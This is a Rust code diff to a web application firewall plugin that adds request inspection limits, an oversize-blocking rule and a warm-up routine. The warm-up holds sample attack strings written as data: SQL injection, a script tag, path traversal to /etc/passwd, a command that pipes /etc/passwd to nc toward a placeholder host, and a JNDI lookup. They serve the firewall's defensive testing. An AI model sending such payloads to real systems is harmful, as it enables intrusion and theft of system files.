@@ -41,9 +41,9 @@ mod tests;
 use std::collections::BTreeMap;
 
 use wasmgress_sdk::metrics::Counter;
-use wasmgress_sdk::{Decision, Plugin, Request, log};
+use wasmgress_sdk::{Decision, Headers, Plugin, Request, log};
 
-pub use config::{Config, Mode};
+pub use config::{Config, Mode, Oversize};
 use engine::{Engine, Hit};
 use inspect::{BodyProblem, Target};
 pub use rules::{family, family_name};
@@ -51,6 +51,9 @@ pub use rules::{family, family_name};
 pub struct Waf {
     engine: Engine,
     mode: Mode,
+    max_inspect_bytes: usize,
+    max_fields: usize,
+    oversize: Oversize,
     threshold: u32,
     allowed_methods: Vec<String>,
     metrics: Metrics,
@@ -68,6 +71,7 @@ const METHOD_NOT_ALLOWED: u32 = 911100;
 const MISSING_HOST: u32 = 920280;
 const BAD_BODY: u32 = 920130;
 const NUL_BYTE: u32 = 920270;
+const OVERSIZE: u32 = 920390;
 
 impl Plugin for Waf {
     /// No configuration at all means every default.
@@ -79,11 +83,14 @@ impl Plugin for Waf {
         let mut engine = Engine::new(&config)?;
         engine.set_exclusions(std::mem::take(&mut config.exclusions));
         let mut ids: Vec<u32> = engine.rules().iter().map(|r| r.id).collect();
-        ids.extend([METHOD_NOT_ALLOWED, MISSING_HOST, BAD_BODY, NUL_BYTE]);
+        ids.extend([METHOD_NOT_ALLOWED, MISSING_HOST, BAD_BODY, NUL_BYTE, OVERSIZE]);
         let rules = ids.into_iter().map(|id| (id, Counter::new(&format!("waf_rule_{id}_matches")))).collect();
-        Ok(Waf {
+        let waf = Waf {
             engine,
             mode: config.mode,
+            max_inspect_bytes: config.max_inspect_bytes,
+            max_fields: config.max_fields,
+            oversize: config.oversize,
             threshold: config.anomaly_threshold,
             allowed_methods: config.allowed_methods.iter().map(|m| m.to_ascii_uppercase()).collect(),
             metrics: Metrics {
@@ -92,7 +99,9 @@ impl Plugin for Waf {
                 passed: Counter::new("waf_requests_passed"),
                 rules,
             },
-        })
+        };
+        waf.warm_up();
+        Ok(waf)
     }
 
     fn needs_request_body(&self) -> bool {
@@ -152,8 +161,19 @@ fn describe(h: &Hit) -> String {
 impl Waf {
     /// Every rule the request matches, protocol checks first.
     pub fn inspect(&self, request: &Request) -> Vec<Hit> {
-        let (fields, problem) = inspect::collect(request);
+        let (mut fields, problem) = inspect::collect(request);
         let mut hits = Vec::new();
+        let mut total = 0;
+        let within = fields
+            .iter()
+            .take(self.max_fields)
+            .take_while(|f| {
+                total += f.name.len() + f.value.len();
+                total <= self.max_inspect_bytes
+            })
+            .count();
+        let oversize = within < fields.len();
+        fields.truncate(within);
         let mut protocol = |id, severity, message: &str, target, name: &str| {
             hits.push(Hit { id, severity, message: message.to_string(), target, name: name.to_string() })
         };
@@ -177,8 +197,37 @@ impl Waf {
         {
             protocol(NUL_BYTE, rules::Severity::Critical, "NUL byte in an argument", f.target, &f.name.clone());
         }
+        if oversize && self.oversize == Oversize::Block {
+            let message = "arguments past the inspection limits (max_inspect_bytes, max_fields)";
+            protocol(OVERSIZE, rules::Severity::Critical, message, Target::Arg, "");
+        }
         hits.extend(self.engine.evaluate(&fields, request.path()));
         hits
+    }
+
+    /// Runs the rules once over typical and hostile values, at configure
+    /// time: the regex engines build their state lazily, and the first
+    /// requests of a fresh instance would otherwise pay for it.
+    fn warm_up(&self) {
+        let mut get =
+            Request::new("GET", "/search?q=running+shoes&page=2&id=42&lang=en-US&next=%2Fhome", "example.com");
+        get.headers = Headers::from_pairs([
+            (
+                "user-agent",
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
+            ),
+            ("referer", "https://example.com/products?category=shoes"),
+            ("cookie", "session=5323451b4a95902a; theme=dark"),
+        ]);
+        self.inspect(&get);
+        let mut post = Request::new("POST", "/api/v1/items", "example.com").with_body(
+            br#"{"name":"O'Brien & Sons","note":"Leave at the door; ring twice.","items":[{"sku":"A-1","qty":2,"price":9.99}],
+            "a":"1' or '1'='1","b":"<script>alert(1)</script>","c":"../../etc/passwd","d":"; cat /etc/passwd | nc x 1",
+            "e":"${jndi:ldap://x/a}","f":"java.lang.Runtime","g":"O:8:\"stdClass\":0:{}","h":"union select 1,2 from users--"}"#
+                .to_vec(),
+        );
+        post.headers = Headers::from_pairs([("content-type", "application/json")]);
+        self.inspect(&post);
     }
 }
 
